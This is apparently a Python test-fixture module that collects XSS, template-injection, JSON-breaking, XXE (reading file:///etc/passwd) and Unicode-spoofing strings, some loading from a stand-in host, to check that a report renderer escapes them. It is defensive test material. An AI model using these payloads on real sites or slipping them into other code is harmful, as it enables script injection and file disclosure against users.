"""Texts that would do something on a page that takes text for HTML, a script or an expression.

Each of them tries to set ``window.hacked``, to fetch ``//injected.invalid``, to open a dialog, or
to break the page that it is put into.
"""

from ascribe.steps.table import encodable
from tests.hostile import HOSTILE

SCRIPT = "window.hacked=1"

_ELEMENTS = (
    "img src=x onerror",
    "svg onload",
    "body onload",
    "input autofocus onfocus",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "details open ontoggle",
    "video src=x onerror",
    "audio src=x onerror",
    "iframe onload",
    "object data=x onerror",
    "embed src=x onload",
    "marquee onstart",
    "div onmouseover",
    "button onclick",
    "a href=x onclick",
    "style onload",
    "link rel=stylesheet href=x onerror",
    "script src=x onerror",
    "math onclick",
    "animate onbegin",
    "video><source onerror",
    "form onsubmit",
    "table onmouseenter",
    "custom-element onfocus tabindex=1 autofocus",
)
"""Elements with a handler that would run."""

_WRAPPERS = (
    "{}",
    '">{}',
    "'>{}",
    "</script>{}",
    "</textarea>{}",
    "</title>{}",
    "--></style>{}",
)
"""What would end the place that the text stands in."""

_PAGES = (
    f"<script>{SCRIPT}</script>",
    f"</script><script>{SCRIPT}</script>",
    f"</SCRIPT ><ScRiPt>{SCRIPT}</sCrIpT>",
    f"<!--<script>{SCRIPT}</script>-->",
    f"<!--<script>--><script>{SCRIPT}</script>",
    f"<script>{SCRIPT}//",
    f"<script type=module>{SCRIPT}</script>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><script xlink:href=data:,{SCRIPT} />",
    f"<math><mtext><script>{SCRIPT}</script>",
    f"<template><script>{SCRIPT}</script></template>",
    f"<noscript><p title='</noscript><script>{SCRIPT}</script>'>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<iframe src='javascript:parent.hacked=1'></iframe>",
    f"<object data='data:text/html,<script>{SCRIPT}</script>'></object>",
    f"<a href='javascript:{SCRIPT}'>step 0</a>",
    f"<form action='javascript:{SCRIPT}'><button autofocus>go</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{SCRIPT}'>",
    "<meta http-equiv=refresh content='0;url=//injected.invalid/'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<base href=//injected.invalid/>",
    "<link rel=stylesheet href=//injected.invalid/x.css>",
    "<link rel=prefetch href=//injected.invalid/x>",
    "<img src=//injected.invalid/x.png>",
    "<img srcset='//injected.invalid/x.png 2x'>",
    "<style>@import '//injected.invalid/x.css';</style>",
    "<style>*{background:url(//injected.invalid/x)}</style>",
    "<p style='background:url(//injected.invalid/x)'>",
    "<video poster=//injected.invalid/x>",
    "<script src=//injected.invalid/x.js></script>",
    "<script>alert(1)</script>",
    "<script>document.title='hacked'</script>",
    "<html><body><h1>another page",
    "</body></html>",
    "<plaintext>",
    "<textarea>",
    "<select><option>",
    "<table><tr><td>",
    "<svg><foreignObject>",
    "<dialog open>",
    "]]>",
    "<![CDATA[",
    "<?xml version='1.0'?>",
    "<!doctype html>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#60;script&#62;window.hacked=1&#60;/script&#62;",
    "&#x3c;script&#x3e;",
    "&quot;&gt;&apos;&amp;amp;",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.hacked=1%3C/script%3E",
    "\ufeff<script>window.hacked=1</script>",
    "＜script＞window.hacked=1＜/script＞",
)
"""Pages, elements and pieces of them."""

_SCRIPTS = (
    f"';{SCRIPT};'",
    f'";{SCRIPT};"',
    f"`${{{SCRIPT}}}`",
    f"\\';{SCRIPT}//",
    f'\\";{SCRIPT}//',
    f"\u2028{SCRIPT}//",
    f"\u2029{SCRIPT}//",
    f"*/{SCRIPT}/*",
    f"\n{SCRIPT}\n",
    f"javascript:{SCRIPT}",
    f"JaVaScRiPt:{SCRIPT}",
    f"java\tscript:{SCRIPT}",
    f"data:text/html,<script>{SCRIPT}</script>",
    f"vbscript:{SCRIPT}",
    f"constructor.constructor('{SCRIPT}')()",
    f"[].filter.constructor('{SCRIPT}')()",
    f"new Function('{SCRIPT}')()",
    f"eval('{SCRIPT}')",
    f"setTimeout('{SCRIPT}')",
    f"import('data:text/javascript,{SCRIPT}')",
)
"""What would end a string of a script, or be taken for code."""

_EXPRESSIONS = (
    "datum.constructor.constructor('window.hacked=1')()",
    "{signal: \"warn('x')\"}",
    '{"signal":"event.view.hacked=1"}',
    '{"expr":"toString.constructor(\'window.hacked=1\')()"}',
    '{"url":"//injected.invalid/data.json"}',
    '{"href":"javascript:window.hacked=1"}',
    "$schema",
    "datum['x']",
    "parent.parent",
    "a.b[c].d",
    "a\\.b",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
    "valueOf",
    "undefined",
    "null",
    "NaN",
    "[object Object]",
    "{{constructor.constructor('window.hacked=1')()}}",
    "${window.hacked=1}",
    "#{window.hacked=1}",
    "<%= window.hacked=1 %>",
    "{% raw %}{{ window }}",
    "@@script@@",
    "@@data@@",
    "@@policy@@",
    "\\g<0>\\1",
    '"}</script><script>window.hacked=1</script>',
    '"]}],"groups":[],"x":"',
    '\\"}],"verdict":{"headline":"hacked"}',
    '\\u0022},"version":"hacked"',
)
"""What charts, templates and JSON might take for more than text."""

_LOOKS = (
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068reversed\u2069",
    "\u200bzero\u200cwidth\u200d",
    "a\x00b",
    "\x1b[31mred",
    "\x08\x08\x08gone",
    "\ue000private",
    "e" + "\u0301" * 40,
    "\u115f\u3164hangul filler",
    "\U000e0041\U000e0042tags",
    "x" * 5_000,
    "W" * 300,
    "<" * 2_000,
    "\n" * 300,
    "\t" * 300,
    " " * 300,
    "&" * 1_000,
    '"' * 1_000,
    "\\" * 1_000,
)
"""What would hide, reverse or push away the rest of the page."""

_HANDLERS = tuple(
    wrapper.format(f"<{element}={SCRIPT}>") for wrapper in _WRAPPERS for element in _ELEMENTS
)

# Text that no file can hold is refused before it comes to a report.
INJECTIONS: tuple[str, ...] = tuple(
    dict.fromkeys(
        text
        for text in (*_HANDLERS, *_PAGES, *_SCRIPTS, *_EXPRESSIONS, *_LOOKS, *HOSTILE.values())
        if text.strip() and encodable(text)
    )
)
